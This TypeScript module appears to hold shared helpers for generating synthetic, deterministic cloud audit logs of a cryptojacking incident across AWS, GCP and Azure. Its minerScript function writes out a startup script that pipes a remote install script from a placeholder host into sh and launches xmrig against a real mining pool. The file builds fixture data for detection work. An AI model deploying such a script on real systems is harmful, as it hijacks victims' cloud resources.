/**
 * What the cloud story's three providers share (cloud-story.ts for AWS, cloud-story-gcp.ts, cloud-story-azure.ts):
 * the clock of the story, its seeded jitter and ids, the incident's actors (the attacker's address, the install
 * script's host, the pool, the miner's command line), and how delivery objects are grouped, dated and gzipped.
 * Every value depends only on its inputs: the same `end` writes the same bytes.
 */

import { gzipSync } from 'node:zlib';
import { hash, iso } from './container-story.js';

export const SECOND = 1000;
export const MINUTE = 60 * SECOND;
export const HOUR = 60 * MINUTE;
export const DAY = 24 * HOUR;
/** How far back each provider's audit log reaches: the nightly fleet's 14 earlier nights are in it. */
export const HISTORY_DAYS = 14;
/** The incident: the last hour before `end`. */
export const INCIDENT_MS = HOUR;
/** How many GPU instances the leaked credential launches, on every provider. */
export const MINERS = 20;
/** How long a night's render fleet runs before its scheduler deletes it. */
export const BATCH_RUN_MS = 150 * MINUTE;
/** The pool the miner's startup script names: listed in the bundled intel (intel/pool-domains.txt). */
export const POOL = { host: 'pool.supportxmr.com', port: 3333, ip: '203.0.113.10' } as const;
/** Where the attacker uses the leaked credentials from (documentation range). */
export const ATTACKER_IP = '203.0.113.77';
/** Where each leaked credential's own job always ran from. */
export const LEAKED_HOME_IP = '198.51.100.50';
/** The host the miner's install script is fetched from. */
export const SCRIPT_HOST = '198.51.100.23';
/** The deployment pipeline's address (Terraform on every provider). */
export const TERRAFORM_IP = '198.51.100.10';

export interface CloudStoryFile {
  /** Path relative to DIR. */
  rel: string;
  data: Buffer | string;
}

/** The startup script (EC2 userData, GCE startup-script, Azure customData) the leaked credential's VMs run. */
export function minerScript(wallet: string): string {
  return `#!/bin/bash\ncurl -fsSL http://${SCRIPT_HOST}/x/install.sh | sh\n/tmp/.x/xmrig -o ${POOL.host}:${POOL.port} -u ${wallet} --donate-level 0 -B\n`;
}

/** A number in [lo, hi) from a hash of the parts: the story's fixed seed. */
export function jitter(lo: number, hi: number, ...parts: string[]): number {
  return lo + (Number.parseInt(hash('jitter', ...parts).slice(0, 8), 16) / 0x1_0000_0000) * (hi - lo);
}

export function round1(v: number): number {
  return Math.round(v * 10) / 10;
}

/** `n` hex digits from a hash of the parts. */
export function hex(n: number, ...parts: string[]): string {
  return hash(...parts).slice(0, n);
}

/** `YYYYMMDDTHHmmZ`, as S3 delivery names objects. */
export function stamp(ms: number): string {
  return iso(ms).replace(/[-:]/g, '').slice(0, 13).concat('Z');
}

/** `YYYY/MM/DD`. */
export function datePath(ms: number): string {
  return iso(ms).slice(0, 10).replace(/-/g, '/');
}

/** The start of the `size`-long bucket `at` falls in. */
export function bucketOf(at: number, size: number): number {
  return Math.floor(at / size) * size;
}

/** A sort key for a record's bucket of `size`: the part (region, NIC, …), then the bucket, zero-padded. */
export function bucketKey(part: string, at: number, size: number): string {
  return `${part} ${String(bucketOf(at, size)).padStart(15, '0')}`;
}

/** Items grouped by `keyOf`, each group in time order (input order breaks ties), groups by key. */
export function grouped<T extends { at: number }>(items: T[], keyOf: (item: T) => string): Array<[string, T[]]> {
  const groups = new Map<string, Array<T & { i: number }>>();
  items.forEach((item, i) => {
    const k = keyOf(item);
    const g = groups.get(k) ?? [];
    g.push({ ...item, i });
    groups.set(k, g);
  });
  return [...groups.entries()]
    .sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0))
    .map(([k, g]) => [k, g.sort((a, b) => a.at - b.at || a.i - b.i)]);
}

export function gz(text: string): Buffer {
  // Node writes no name and a zero mtime in the gzip header: the same text gives the same bytes
  return gzipSync(Buffer.from(text, 'utf8'), { level: 9 });
}

/** Records one JSON object per line, as log sinks and exports write them. */
export function jsonLines(records: unknown[]): string {
  return `${records.map((r) => JSON.stringify(r)).join('\n')}\n`;
}
